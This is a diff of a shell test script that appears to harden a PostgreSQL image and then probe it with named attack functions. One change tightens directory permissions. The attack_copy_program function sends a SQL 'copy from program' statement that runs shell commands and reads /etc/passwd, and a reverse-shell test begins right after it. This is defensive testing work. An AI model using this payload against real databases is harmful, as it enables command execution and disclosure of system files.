@@ -29,6 +29,7 @@ image_prepare() {
 	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example \
 		-keyout "$tree/etc/ssl/private/postgres.key" -out "$tree/etc/ssl/postgres.pem" 2>/dev/null
 	chmod 600 "$tree/etc/ssl/private/postgres.key" "$tree/var/lib/postgresql/.pgpass"
+	chmod 711 "$tree/etc/ssl/private"
 	chown -R 103:103 "$tree"/var/{lib,log}/postgresql "$tree"/run/postgresql "$tree/etc/postgresql" \
 		"$tree/etc/ssl/private/postgres.key"
 	rm -f "$tree/dev/null" "$tree/dev/urandom"
@@ -377,7 +378,7 @@ attack_copy_program() {
 	harm exec '*/dash'
 	admin_sql "create table out (t text); copy out from program 'id; uname -a; cat /etc/passwd';
 		select * from out; drop table out" |
-		tee "$stage/answer" | grep -q uid=103
+		tee "$stage/answer" | grep uid=103
 }
 
 attack_reverse_shell() {
